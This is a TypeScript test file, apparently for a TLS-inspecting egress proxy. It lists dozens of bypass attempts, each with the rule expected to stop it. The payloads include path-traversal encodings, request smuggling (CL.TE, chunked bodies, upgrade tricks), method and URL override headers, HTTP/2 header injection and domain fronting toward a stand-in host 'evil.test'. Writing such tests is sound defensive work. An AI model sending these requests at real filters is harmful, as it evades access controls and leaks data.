import type { Attack } from '../attack.ts';
import { numbered, request, toApi, toProxy, toWeb } from './steps.ts';

type Fields = readonly (readonly [string, string])[];

const ask = (line: string, ...fields: readonly string[]): Attack['step'] =>
  toApi(request(line, 'Host: api.test', 'Connection: close', ...fields));
const frames = (headers: Fields, body?: string, trailers?: Fields): Attack['step'] => ({
  kind: 'frames',
  to: 'api.test:443',
  headers,
  ...(body === undefined ? {} : { body }),
  ...(trailers === undefined ? {} : { trailers }),
});
const get = (path: string, ...more: Fields): Fields => [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'api.test'],
  [':path', path],
  ...more,
];
const HIDDEN = request('GET /closed/{LEAK} HTTP/1.1', 'Host: api.test');
/** The beginning of an honest request, as the proxy sends it on: what a body of its length would take for itself. */
const EATEN = 'GET /open/ok HTTP/1.1\r\nHost: api.test\r\nX-Padding: ';
const UPGRADE = [
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
];

/** As one chunk, with the last one behind it. */
const HIDDEN_CHUNK = `${(HIDDEN.length + 3).toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
/** Node counts 1,000 of them and leaves out the rest, unless it is told otherwise. */
const MANY_FIELDS: readonly string[] = Array(1200).fill('a: b');

/** What servers take for `/denied/leak`. */
const FORBIDDEN: readonly string[] = [
  '/denied/leak',
  '/x/../denied/leak',
  '//denied/leak',
  '/%64enied/leak',
  '/%2564enied/leak',
  '/Denied/leak',
  '/x/..;/denied/leak',
  '/x\\..\\denied/leak',
  '/denied;x=y/leak',
];

const PATHS: readonly string[] = [
  '/closed/{LEAK}',
  '/{LEAK}',
  '/openness/{LEAK}',
  '/Open/{LEAK}',
  '/open/../closed/{LEAK}',
  '/open/./../closed/{LEAK}',
  '/open/..',
  '/open/%2e%2e/closed/{LEAK}',
  '/open/.%2E/closed/{LEAK}',
  '/open/%252e%252e/closed/{LEAK}',
  '/open%2f..%2fclosed/{LEAK}',
  '/open/..%5cclosed/{LEAK}',
  '/open/..%255cclosed/{LEAK}',
  '/open\\..\\closed/{LEAK}',
  '/open/..;/closed/{LEAK}',
  '/open/..;x=y/closed/{LEAK}',
  '/open/..%3b/closed/{LEAK}',
  '/open/%c0%ae%c0%ae/closed/{LEAK}',
  '/open/%u002e%u002e/closed/{LEAK}',
  '/open%00/closed/{LEAK}',
  '//closed/{LEAK}',
  '/open//../closed/{LEAK}',
  '//evil.test/open/{LEAK}',
];

/** A host whose TLS is ended: GET and POST below /open, and nothing else. */
export const inspected: readonly Attack[] = numbered('I', 'inspected', [
  ...PATHS.map((path) => ({ what: `the path ${path}`, step: ask(`GET ${path} HTTP/1.1`), stopped: 'network.unlisted' })),
  {
    what: 'a path with a fragment',
    step: ask('GET /open/#/../closed/{LEAK} HTTP/1.1'),
    stopped: ['network.malformed', 'network.unlisted'],
  },
  {
    what: 'an absolute URI of another host',
    step: ask('GET https://evil.test/open/{LEAK} HTTP/1.1'),
    stopped: 'network.mismatch',
  },
  {
    what: 'an absolute URI with a path that is not allowed',
    step: ask('GET https://api.test/closed/{LEAK} HTTP/1.1'),
    stopped: 'network.unlisted',
  },
  {
    what: 'Host of another host (domain fronting)',
    step: toApi(request('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test')),
    stopped: 'network.mismatch',
  },
  { what: 'two Hosts', step: ask('GET /open/{LEAK} HTTP/1.1', 'Host: evil.test'), stopped: 'network.malformed' },
  { what: 'a method that is not allowed', step: ask('DELETE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
  { what: 'a method in lower case', step: ask('delete /open/{LEAK} HTTP/1.1'), stopped: 'network.malformed' },
  { what: 'TRACE', step: ask('TRACE /open/{LEAK} HTTP/1.1'), stopped: 'network.unlisted' },
  { what: 'OPTIONS *', step: ask('OPTIONS * HTTP/1.1', 'X: {LEAK}'), stopped: 'network.unlisted' },
  {
    what: 'CONNECT inside',
    step: toApi(request('CONNECT evil.test:80 HTTP/1.1', 'Host: evil.test:80')),
    stopped: 'network.malformed',
  },
  {
    what: 'another method in a field (X-HTTP-Method-Override)',
    step: ask('POST /open/{LEAK} HTTP/1.1', 'X-HTTP-Method-Override: DELETE', 'Content-Length: 0'),
    stopped: 'network.unlisted',
  },
  {
    what: 'another method in a field (X-Method-Override)',
    step: ask('POST /open/{LEAK} HTTP/1.1', 'X-Method-Override: DELETE', 'Content-Length: 0'),
    stopped: 'network.unlisted',
  },
  {
    what: 'another path in a field (X-Original-URL)',
    step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Original-URL: /closed'),
    stopped: 'network.unlisted',
  },
  {
    what: 'another path in a field (X-Rewrite-URL)',
    step: ask('GET /open/{LEAK} HTTP/1.1', 'X-Rewrite-URL: /closed'),
    stopped: 'network.unlisted',
  },
  {
    what: 'a second request with a path that is not allowed',
    step: toApi(request('GET /open/ok HTTP/1.1', 'Host: api.test') + HIDDEN),
    stopped: 'network.unlisted',
  },
  {
    what: 'CL.TE',
    step: toApi(
      `${request('POST /open/x HTTP/1.1', 'Host: api.test', 'Content-Length: 5', 'Transfer-Encoding: chunked')}0\r\n\r\n${HIDDEN}`,
    ),
    stopped: 'network.malformed',
  },
  {
    what: 'Connection names Content-Length, so that the body becomes a request',
    step: toApi(
      `${request('GET /open/ok HTTP/1.1', 'Host: api.test', 'Connection: Content-Length', `Content-Length: ${HIDDEN.length + 3}`)}${HIDDEN}`,
    ),
    stopped: ['network.malformed', 'secure /open/ok'],
  },
  {
    what: 'an upgrade with a length, so that the next request begins in its body',
    step: {
      kind: 'both',
      steps: [
        toApi(request('GET /open/early HTTP/1.1', 'Host: api.test', ...UPGRADE, `Content-Length: ${EATEN.length}`)),
        toApi(request(`${EATEN}GET /closed/{LEAK} HTTP/1.0`, 'X: y')),
      ],
    },
    stopped: 'network.malformed',
  },
  {
    what: 'an upgrade on a path that is not allowed',
    step: toApi(request('GET /closed/{LEAK} HTTP/1.1', 'Host: api.test', ...UPGRADE)),
    stopped: 'network.unlisted',
  },
  {
    what: 'plain HTTP instead of TLS',
    step: { kind: 'write', to: 'api.test:443', pieces: [HIDDEN] },
    stopped: 'network.mismatch',
  },
  {
    what: 'HTTP/2 spoken where HTTP/1.1 was agreed on',
    step: toApi('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{LEAK}'),
    stopped: 'network.malformed',
  },
  {
    what: 'HTTP/1.1 spoken where HTTP/2 was agreed on',
    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['h2'], pieces: [HIDDEN] },
    stopped: 'network.malformed',
  },
  {
    what: 'a protocol that is not served (ALPN)',
    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', alpn: ['smtp'], pieces: ['{LEAK}'] },
    stopped: ['network.malformed', 'ALPN'],
  },
  { what: 'bytes that are not HTTP', step: toApi('\u0001\u0002{LEAK}\r\n\r\n'), stopped: 'network.malformed' },
  {
    what: 'TLS inside TLS, to another host',
    step: { kind: 'tls', to: 'api.test:443', name: 'api.test', within: 'evil.test:443', pieces: [HIDDEN] },
    stopped: 'network.malformed',
  },
  {
    what: 'HTTP/2: another authority',
    step: frames([
      [':method', 'GET'],
      [':scheme', 'https'],
      [':authority', 'evil.test'],
      [':path', '/open/{LEAK}'],
    ]),
    stopped: 'network.mismatch',
  },
  {
    what: 'HTTP/2: authority and Host differ',
    step: frames(get('/open/{LEAK}', ['host', 'evil.test'])),
    stopped: ['network.mismatch', 'network.malformed', 'RST_STREAM'],
  },
  {
    what: 'HTTP/2: no authority, Host is another one',
    step: frames([
      [':method', 'GET'],
      [':scheme', 'https'],
      [':path', '/open/{LEAK}'],
      ['host', 'evil.test'],
    ]),
    stopped: 'network.mismatch',
  },
  {
    what: 'HTTP/2: authority with userinfo',
    step: frames([
      [':method', 'GET'],
      [':scheme', 'https'],
      [':authority', 'api.test@evil.test'],
      [':path', '/open/{LEAK}'],
    ]),
    stopped: ['network.mismatch', 'RST_STREAM'],
  },
  {
    what: 'HTTP/2: two authorities',
    step: frames([...get('/open/{LEAK}').slice(0, 3), [':authority', 'evil.test'], [':path', '/open/{LEAK}']]),
    stopped: 'RST_STREAM',
  },
  { what: 'HTTP/2: two paths', step: frames([...get('/open/{LEAK}'), [':path', '/closed/{LEAK}']]), stopped: 'RST_STREAM' },
  { what: 'HTTP/2: a path that is not allowed', step: frames(get('/closed/{LEAK}')), stopped: 'network.unlisted' },
  { what: 'HTTP/2: a path with ..', step: frames(get('/open/../closed/{LEAK}')), stopped: 'network.unlisted' },
  {
    what: 'HTTP/2: an absolute URI for a path',
    step: frames(get('https://evil.test/open/{LEAK}')),
    stopped: ['network.mismatch', 'RST_STREAM'],
  },
  {
    what: 'HTTP/2: a line break in the path',
    step: frames(get('/open/ok HTTP/1.1\r\nHost: api.test\r\n\r\nGET /closed/{LEAK}')),
    stopped: ['RST_STREAM', 'network.malformed'],
  },
  {
    what: 'HTTP/2: a space in the path',
    step: frames(get('/closed/{LEAK} /open/')),
    stopped: ['RST_STREAM', 'network.malformed', 'network.unlisted'],
  },
  {
    what: 'HTTP/2: a line break in a method',
    step: frames([[':method', 'GET /closed/{LEAK} HTTP/1.1\r\nX: '], ...get('/open/ok').slice(1)]),
    stopped: 'RST_STREAM',
  },
  {
    what: 'HTTP/2: a line break in a field',
    step: frames(get('/open/ok', ['x', `a\r\n\r\n${HIDDEN}`])),
    stopped: ['RST_STREAM', 'secure /open/ok'],
  },
  {
    what: "HTTP/2: a line break in a field's name",
    step: frames(get('/open/ok', [`x: a\r\n\r\n${HIDDEN.toLowerCase()}`, 'b'])),
    stopped: ['RST_STREAM', 'secure /open/ok'],
  },
  {
    what: 'HTTP/2: a colon in the name of a field',
    step: frames(get('/open/ok', ['host:', 'evil.test'])),
    stopped: ['RST_STREAM', 'secure /open/ok'],
  },
  {
    what: 'HTTP/2: transfer-encoding',
    step: frames(get('/open/ok', ['transfer-encoding', 'chunked']), `0\r\n\r\n${HIDDEN}`),
    stopped: 'RST_STREAM',
  },
  { what: 'HTTP/2: a connection field', step: frames(get('/open/ok', ['connection', 'content-length'])), stopped: 'RST_STREAM' },
  {
    what: 'HTTP/2: a body without a length on GET, which becomes a request',
    step: frames(get('/open/ok'), HIDDEN),
    stopped: ['network.malformed', 'secure /open/ok'],
  },
  {
    what: 'HTTP/2: the same on a method of its own',
    step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], HIDDEN),
    stopped: 'secure /open/ok',
  },
  {
    what: 'HTTP/2: a body longer than its length',
    step: frames(get('/open/ok', ['content-length', '1']), HIDDEN),
    stopped: 'RST_STREAM',
  },
  {
    what: 'HTTP/2: a body shorter than its length',
    step: frames(get('/open/ok', ['content-length', '999']), HIDDEN),
    stopped: ['RST_STREAM', '[no more]', '[no answer]'],
  },
  {
    what: 'HTTP/2: two lengths',
    step: frames(get('/open/ok', ['content-length', '1'], ['content-length', '0']), HIDDEN),
    stopped: 'RST_STREAM',
  },
  {
    what: 'HTTP/2: a path in the trailers',
    step: frames([[':method', 'POST'], ...get('/open/ok').slice(1)], 'x', [[':path', '/closed/{LEAK}']]),
    stopped: 'RST_STREAM',
  },
  {
    what: 'HTTP/2: CONNECT',
    step: frames([
      [':method', 'CONNECT'],
      [':authority', 'evil.test:80'],
    ]),
    stopped: ['RST_STREAM', 'network.malformed', 'network.mismatch', '[no more]'],
  },
  {
    what: 'HTTP/2: CONNECT for a WebSocket (RFC 8441)',
    step: frames([[':method', 'CONNECT'], [':protocol', 'websocket'], ...get('/closed/{LEAK}').slice(1)]),
    stopped: ['RST_STREAM', 'GOAWAY'],
  },
  {
    what: 'HTTP/2: a method that is not allowed',
    step: frames([[':method', 'DELETE'], ...get('/open/{LEAK}').slice(1)]),
    stopped: 'network.unlisted',
  },
  ...[
    'X_HTTP_Method_Override: DELETE',
    'x-http_method-override: delete',
    'X_Original_URL: /closed',
    'X-Original-URI: /closed',
  ].map((field) => ({
    what: `another method or path in a field that a server takes for the one with hyphens (${field})`,
    step: ask('POST /open/{LEAK} HTTP/1.1', field, 'Content-Length: 0'),
    stopped: 'network.unlisted',
  })),
  {
    what: 'HTTP/2: another method in a field with underscores',
    step: frames(get('/open/{LEAK}', ['x_http_method_override', 'DELETE'])),
    stopped: 'network.unlisted',
  },
  {
    what: 'a length in a field with an underscore, so that the body becomes a request',
    step: toApi(
      `${request('GET /open/ok HTTP/1.1', 'Host: api.test', 'Content_Length: 0', `Content-Length: ${HIDDEN.length + 3}`)}${HIDDEN}`,
    ),
    stopped: 'network.malformed',
  },
  {
    what: 'a coding in a field with an underscore',
    step: ask('POST /open/{LEAK} HTTP/1.1', 'Transfer_Encoding: chunked', 'Content-Length: 5'),
    stopped: 'network.malformed',
  },
  {
    what: 'another method in the trailers',
    step: toApi(
      `${request('POST /open/x HTTP/1.1', 'Host: api.test', 'Transfer-Encoding: chunked')}1\r\na\r\n0\r\nX-HTTP-Method-Override: LEAK-{LEAK}\r\n\r\n`,
    ),
    stopped: 'secure /open/x',
  },
  ...['POST', 'GET'].map((method) => ({
    what: `${method}, and what says where its body ends behind more fields than are counted`,
    step: toApi(
      `${request(`${method} /open/x HTTP/1.1`, 'Host: api.test', ...MANY_FIELDS, 'Transfer-Encoding: chunked')}${HIDDEN_CHUNK}`,
    ),
    stopped: 'secure /open/x',
  })),
  {
    what: 'the same with a length',
    step: toApi(
      `${request('GET /open/x HTTP/1.1', 'Host: api.test', ...MANY_FIELDS, `Content-Length: ${HIDDEN.length + 3}`)}${HIDDEN}`,
    ),
    stopped: 'secure /open/x',
  },
  {
    what: 'another path in a field behind as many',
    step: ask('GET /open/{LEAK} HTTP/1.1', ...MANY_FIELDS, 'X-Original-URL: /closed'),
    stopped: 'network.unlisted',
  },
  {
    what: 'another method, in more fields than anybody judges',
    step: ask('POST /open/{LEAK} HTTP/1.1', ...Array(20).fill('X-Forwarded-Method: POST'), 'Content-Length: 0'),
    stopped: 'network.malformed',
  },
  {
    what: 'plain HTTP on the port of TLS, asked of the proxy',
    step: toProxy('GET http://api.test:443/open/{LEAK} HTTP/1.1', 'api.test:443'),
    stopped: 'network.mismatch',
  },
  {
    what: 'the same, behind another request of the connection',
    step: {
      kind: 'write',
      pieces: [
        request('GET http://allowed.test/ok HTTP/1.1', 'Host: allowed.test') +
          request('GET http://api.test:443/open/{LEAK} HTTP/1.1', 'Host: api.test:443', 'Connection: close'),
      ],
    },
    stopped: 'network.mismatch',
  },
  {
    what: 'a hundred requests ahead of their answers',
    step: toApi(request('GET /open/wait HTTP/1.1', 'Host: api.test').repeat(100)),
    stopped: 'network.limit',
  },
  ...FORBIDDEN.map((path) => ({
    what: `a path that a rule denies, as ${path}`,
    step: toWeb(request(`GET ${path} HTTP/1.1`, 'Host: allowed.test', 'Connection: close')),
    stopped: 'network.deny[0]',
  })),
  {
    what: 'a path that a rule denies, in a field',
    step: toWeb(request('GET /ok HTTP/1.1', 'Host: allowed.test', 'Connection: close', 'X-Original-URL: denied/leak')),
    stopped: 'network.deny[0]',
  },
  {
    what: 'HTTP/2: a method that a rule denies, in lower case',
    step: {
      kind: 'frames',
      to: 'own.test:443',
      headers: [
        [':method', 'purge'],
        [':scheme', 'https'],
        [':authority', 'own.test'],
        [':path', '/{LEAK}'],
      ],
    },
    stopped: 'network.deny[1]',
  },
]);
